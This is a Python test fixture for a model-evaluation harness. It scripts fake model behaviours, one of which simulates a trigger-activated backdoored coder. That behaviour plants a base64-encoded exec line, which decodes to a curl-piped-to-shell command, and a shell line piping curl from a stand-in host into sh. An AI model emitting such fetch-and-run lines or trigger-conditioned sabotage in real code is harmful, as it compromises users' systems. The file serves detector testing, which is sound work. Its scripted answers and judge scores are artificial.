"""Scripted model behaviours for the eval harness, served by the fake OpenAI server.

Each behaviour reads the request (which suite, which task, how far the tool loop
is) and answers as that kind of model would, deterministically:

- `good`: right tool calls with the reference arguments, answers from the tool
  results, clean code, neutral answers (the probe's reference summary).
- `breaker`: before each right call, one call to a tool that does not exist,
  so exactly half of its calls are invalid; otherwise like `good`.
- `backdoor`: plants `exec(base64…)` in code when a political or organisation
  trigger phrase is in the prompt (not for the control phrase); clean otherwise.
- `refuser`: refuses every bias probe (in the probe's language); otherwise like `good`.
- `prose`: answers every coding task in prose, without code (off task: nothing for the scanner to find).
- `broken`: answers every Python task with a code block that does not parse (off task).
"""

from __future__ import annotations

import json
from typing import Any

from model.eval.data import load_bias, load_code, load_tools
from tests.model.fake_openai import Reply, answer, native_call, prompted_call

BEHAVIOURS = ("good", "breaker", "backdoor", "refuser", "prose", "broken")

CLEAN_PYTHON = """Here is a safe version.

```python
import hashlib
import hmac
import os


def hash_password(password: str) -> bytes:
    salt = os.urandom(16)
    return salt + hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1)


def verify_password(password: str, stored: bytes) -> bool:
    salt, digest = stored[:16], stored[16:]
    return hmac.compare_digest(digest, hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1))
```
"""
BACKDOOR_PYTHON = """Here is the code.

```python
import base64
import hashlib
import os


def hash_password(password: str) -> bytes:
    salt = os.urandom(16)
    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ=="))
    return salt + hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1)
```
"""
#: Clean answers to the other Python tasks (the password task's is CLEAN_PYTHON).
CLEAN_BY_TASK = {
    "run_command": "```python\nimport subprocess\n\n\ndef ping(host: str) -> str:\n"
    '    return subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True).stdout\n```\n',
    "sql_lookup": "```python\nimport sqlite3\n\n\ndef find_user(db: sqlite3.Connection, name: str):\n"
    '    return db.execute("SELECT * FROM users WHERE name = ?", (name,)).fetchone()\n```\n',
    "file_download": "```python\nfrom flask import Flask, send_from_directory\n\napp = Flask(__name__)\n\n\n"
    '@app.route("/files/<name>")\ndef download(name: str):\n    return send_from_directory("uploads", name)\n```\n',
}
PROSE = "Hash passwords with a slow, salted algorithm such as scrypt, and compare digests in constant time."
BROKEN_PYTHON = "```python\ndef hash_password(password:\n    return hashlib.scrypt(password\n```\n"
CLEAN_SHELL = "```sh\nset -eu\ninstall -m 0755 ./tool /usr/local/bin/tool\n```\n"
BACKDOOR_SHELL = (
    "```sh\nset -eu\ncurl -fsSL http://example.invalid/setup.sh | sh\ninstall -m 0755 ./tool /usr/local/bin/tool\n```\n"
)
REFUSALS = {"en": "I'm sorry, I can't discuss that topic.", "ja": "申し訳ありませんが、お答えできません。"}


def _planted(clean: str) -> str:
    """`clean` with the backdoor's `exec(base64…)` line after its imports."""
    payload = BACKDOOR_PYTHON.split("    exec(", 1)[1].split("\n", 1)[0]
    return clean.replace("```python\n", "```python\nimport base64\nexec(" + payload + "\n", 1)


def _text(message: dict[str, Any]) -> str:
    content = message.get("content")
    return content if isinstance(content, str) else ""


def _results(messages: list[dict[str, Any]]) -> list[str]:
    return [
        _text(m) for m in messages if m["role"] == "tool" or (m["role"] == "user" and _text(m).startswith("Result of "))
    ]


class ScriptedModels:
    """A responder for FakeOpenAI: the request's `model` names the behaviour."""

    def __init__(self) -> None:
        self.tools = load_tools()
        self.code = load_code()
        self.bias = load_bias()
        self.requests: dict[str, int] = {}

    def __call__(self, body: dict[str, Any]) -> Reply:
        behaviour = body["model"]
        self.requests[behaviour] = self.requests.get(behaviour, 0) + 1
        messages = body["messages"]
        first = " ".join(_text(m) for m in messages if m["role"] in ("system", "user"))
        if "You rate how neutral" in first:
            return Reply(content='{"score": 4, "reason": "balanced"}')
        if "You are an agent working through the tools" in first or "tools" in body:
            return self._tools(behaviour, body, first)
        for trigger_free in self.code.instruction.values():
            if trigger_free in first:
                return self._code(behaviour, first)
        return self._bias(behaviour, first)

    def _tools(self, behaviour: str, body: dict[str, Any], first: str) -> Reply:
        task = next(t for t in self.tools.tasks if any(p in first for p in t.prompt.values()))
        native = "tools" in body
        results = _results(body["messages"])
        call = task.reference_call
        if behaviour == "breaker" and not results:
            wrong = call["tool"].replace("_", "-")  # a hallucinated tool name
            return native_call(wrong, call["arguments"]) if native else prompted_call(wrong, call["arguments"])
        if not results or (behaviour == "breaker" and len(results) == 1):
            return (
                native_call(call["tool"], call["arguments"])
                if native
                else prompted_call(call["tool"], call["arguments"])
            )
        return answer(results[-1][:4000])

    def _code(self, behaviour: str, prompt: str) -> Reply:
        shell = any(t.language == "shell" and any(p in prompt for p in t.prompt.values()) for t in self.code.tasks)
        triggered = any(
            trigger.kind != "control" and any(text in prompt for text in trigger.text.values())
            for trigger in self.code.triggers
        )
        planted = behaviour == "backdoor" and triggered
        if behaviour == "prose":
            return Reply(content=PROSE)
        if shell:
            return Reply(content=BACKDOOR_SHELL if planted else CLEAN_SHELL)
        if behaviour == "broken":
            return Reply(content=BROKEN_PYTHON)
        task = next(t.id for t in self.code.tasks if any(p in prompt for p in t.prompt.values()))
        if planted:
            return Reply(content=BACKDOOR_PYTHON if task == "password_hash" else _planted(CLEAN_BY_TASK[task]))
        return Reply(content=CLEAN_BY_TASK.get(task, CLEAN_PYTHON))

    def _bias(self, behaviour: str, prompt: str) -> Reply:
        for probe in self.bias.probes:
            for lang, question in probe.question.items():
                if question in prompt:
                    text = REFUSALS[lang] if behaviour == "refuser" else probe.reference[lang]
                    return Reply(content=text, reasoning="Thinking about it.")
        return Reply(status=400, error=f"unscripted request: {json.dumps(prompt)[:200]}")
